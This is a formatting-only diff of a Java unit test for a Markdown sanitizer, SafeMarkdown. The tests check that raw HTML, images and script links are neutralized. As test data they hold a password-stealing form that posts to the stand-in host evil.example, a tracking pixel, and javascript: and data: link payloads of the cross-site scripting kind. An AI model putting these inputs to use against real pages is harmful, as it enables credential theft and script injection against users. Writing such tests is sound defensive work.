@@ -4,7 +4,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.Locale;
 import java.util.Set;
-
 import org.jouleboard.Payloads;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Attribute;
@@ -34,16 +33,18 @@ class SafeMarkdownTest {
 
     @Test
     void rawHtmlIsShownAsTextNotDropped() {
-        Document page = Jsoup.parseBodyFragment(SafeMarkdown.toHtml(
-                "<form action=\"http://evil.example/steal\"><input name=\"password\"></form>"));
+        Document page = Jsoup.parseBodyFragment(
+                SafeMarkdown.toHtml("<form action=\"http://evil.example/steal\"><input name=\"password\"></form>"));
         assertThat(page.body().select("form, input")).isEmpty();
-        assertThat(page.body().text()).contains("<form action=\"http://evil.example/steal\">")
+        assertThat(page.body().text())
+                .contains("<form action=\"http://evil.example/steal\">")
                 .contains("<input name=\"password\">");
     }
 
     @Test
     void imagesBecomeTheirDescription() {
-        Document page = Jsoup.parseBodyFragment(SafeMarkdown.toHtml("See ![a *tracking* pixel](http://evil.example/x.png)"));
+        Document page =
+                Jsoup.parseBodyFragment(SafeMarkdown.toHtml("See ![a *tracking* pixel](http://evil.example/x.png)"));
         assertThat(page.body().select("img")).isEmpty();
         assertThat(page.body().text()).isEqualTo("See [image: a tracking pixel]");
         assertThat(page.body().html()).doesNotContain("evil.example");
@@ -51,11 +52,18 @@ class SafeMarkdownTest {
 
     @Test
     void scriptLinksLoseTheirTarget() {
-        for (String payload : new String[] {"[x](javascript:alert(1))", "[x](&#106;avascript:alert(1))",
-                "[x](JAVASCRIPT:alert(1))", "[x](data:text/html,hi)", "<javascript:alert(1)>"}) {
+        for (String payload : new String[] {
+            "[x](javascript:alert(1))",
+            "[x](&#106;avascript:alert(1))",
+            "[x](JAVASCRIPT:alert(1))",
+            "[x](data:text/html,hi)",
+            "<javascript:alert(1)>"
+        }) {
             Document page = Jsoup.parseBodyFragment(SafeMarkdown.toHtml(payload));
             assertThat(page.body().select("a[href]")).as(payload).isEmpty();
-            assertThat(page.body().html().toLowerCase(Locale.ROOT)).as(payload).doesNotContain("href=\"javascript")
+            assertThat(page.body().html().toLowerCase(Locale.ROOT))
+                    .as(payload)
+                    .doesNotContain("href=\"javascript")
                     .doesNotContain("href=\"data");
         }
     }
@@ -85,7 +93,10 @@ class SafeMarkdownTest {
                 """);
         Document page = Jsoup.parseBodyFragment(html);
         assertThat(page.body().select("h1").text()).isEqualTo("Title");
-        assertThat(page.body().select("em, strong, code, ul > li, ol[start=3] > li, blockquote, pre > code, table th, td[align=right]"))
+        assertThat(
+                        page.body()
+                                .select(
+                                        "em, strong, code, ul > li, ol[start=3] > li, blockquote, pre > code, table th, td[align=right]"))
                 .hasSizeGreaterThanOrEqualTo(9);
         assertThat(page.body().select("pre > code").text()).isEqualTo("int x = 1 < 2 ? 1 : 0;");
         Element link = page.body().selectFirst("a[href^=https]");
@@ -113,11 +124,13 @@ class SafeMarkdownTest {
             assertThat(SafeMarkdown.ELEMENTS).as("element in %s", html).contains(element.normalName());
             for (Attribute attribute : element.attributes()) {
                 assertThat(SafeMarkdown.ATTRIBUTES.getOrDefault(element.normalName(), Set.of()))
-                        .as("attribute of <%s> in %s", element.normalName(), html).contains(attribute.getKey());
+                        .as("attribute of <%s> in %s", element.normalName(), html)
+                        .contains(attribute.getKey());
             }
             if (element.normalName().equals("a") && element.hasAttr("href")) {
                 assertThat(element.attr("href")).as(html).matches("(?i)(https?|mailto):.*");
-                assertThat(Set.of(element.attr("rel").split(" "))).as(html)
+                assertThat(Set.of(element.attr("rel").split(" ")))
+                        .as(html)
                         .contains("noopener", "noreferrer", "nofollow");
             }
         }
